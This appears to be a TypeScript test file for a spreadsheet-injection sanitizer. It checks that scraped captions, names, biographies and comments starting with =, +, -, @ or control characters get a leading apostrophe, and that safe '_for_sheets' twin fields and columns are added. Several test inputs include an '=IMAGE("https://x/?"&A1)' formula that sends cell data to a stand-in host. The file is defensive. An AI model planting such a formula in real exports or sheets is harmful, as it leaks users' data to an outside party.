/**
 * Core's rule for text from strangers in spreadsheets (core/src/stranger-text.ts): OWASP's starts
 * get a leading apostrophe, nothing else changes; the registry's `stranger` fields get twins at
 * every depth, the item itself untouched.
 */
import {
  documentedEndpoints,
  getEndpoint,
  spreadsheetSafe,
  strangerTextPaths,
  withSafeTwins,
  withTwinColumns,
} from '../src';

test("a leading ' exactly for =, +, -, @, a tab and a carriage return", () => {
  for (const hostile of ['=IMAGE("https://x/?"&A1)', '+1', '-2+3', '@SUM(1)', '\t=1', '=', '+'])
    expect(spreadsheetSafe(hostile)).toBe(`'${hostile}`);
  // A lone carriage return is a line feed in the twin (CSV writers quote that one), a CRLF stays.
  expect(spreadsheetSafe('\r=1')).toBe("'\n=1");
  expect(spreadsheetSafe('nice post\r=1+1\r\nbye')).toBe('nice post\n=1+1\r\nbye');
  for (const plain of ['', 'Fresh post #veganrecipes', ' =1', "'x", '0012345', 'TRUE', '2026-01-05', '\n=1', '#tag'])
    expect(spreadsheetSafe(plain)).toBe(plain);
});

test("the registry's stranger text: captions, names, biographies, comments, places, text in images", () => {
  expect(strangerTextPaths(getEndpoint('hashtag/recent').schema)).toEqual([
    'caption',
    'location.name',
    'location.address',
    'location.city',
    'location.phone',
    'location.website',
    'author.full_name',
  ]);
  expect(strangerTextPaths(getEndpoint('profile').schema)).toEqual(
    expect.arrayContaining(['full_name', 'biography', 'external_url', 'public_email', 'public_phone_number']),
  );
  expect(strangerTextPaths(getEndpoint('post/comments').schema)).toEqual(['text', 'author.full_name']);
  expect(strangerTextPaths(getEndpoint('insights/profile/similar').schema)).toEqual(['similar[].full_name']);
  expect(strangerTextPaths(getEndpoint('insights/post/image').schema)).toEqual(['caption', 'analysis.text_in_image']);
  // Counts, ids and the service's own words are not a stranger's.
  const all = documentedEndpoints.flatMap((e) => strangerTextPaths(e.schema));
  for (const own of ['id', 'username', 'taken_at', 'type', 'url', 'verdict', 'quality_grade'])
    expect(all).not.toContain(own);
});

test('twins beside their fields, at every depth; null stays null, absent stays absent; the item is not changed', () => {
  const post = {
    id: '1',
    caption: '=IMAGE("https://x/?"&A1)',
    location: { id: '2', name: '+Bar', city: null },
    author: { id: '3', username: 'a', full_name: 'Plain Name' },
    extra: { caption: '=not ours' },
  };
  const copy = structuredClone(post);
  const twinned = withSafeTwins(getEndpoint('post').schema, post) as Record<string, Record<string, unknown>>;
  expect(post).toEqual(copy);
  expect(Object.keys(twinned)).toEqual(['id', 'caption', 'caption_for_sheets', 'location', 'author', 'extra']);
  expect(twinned.caption_for_sheets).toBe(`'${post.caption}`);
  expect(twinned.location).toEqual({
    id: '2',
    name: '+Bar',
    name_for_sheets: "'+Bar",
    city: null,
    city_for_sheets: null,
  });
  expect(twinned.author.full_name_for_sheets).toBe('Plain Name');
  expect(twinned.extra).toEqual({ caption: '=not ours' }); // not in the schema: left as it is
  const similar = withSafeTwins(getEndpoint('insights/profile/similar').schema, {
    similar: [{ username: 'b', full_name: '@b' }],
  }) as { similar: Record<string, unknown>[] };
  expect(similar.similar[0]).toEqual({ username: 'b', full_name: '@b', full_name_for_sheets: "'@b" });
});

test('simplified columns: each stranger column followed by its twin; a list column gets none', () => {
  const e = getEndpoint('post');
  expect(withTwinColumns(e.schema, e.columns)).toEqual([
    'shortcode',
    'type',
    'taken_at',
    'like_count',
    'comment_count',
    'view_count',
    'author.username',
    'location.name',
    'location.name_for_sheets',
    'caption',
    'caption_for_sheets',
    'url',
  ]);
  const s = getEndpoint('insights/profile/similar');
  expect(withTwinColumns(s.schema, s.columns)).toEqual(s.columns);
});
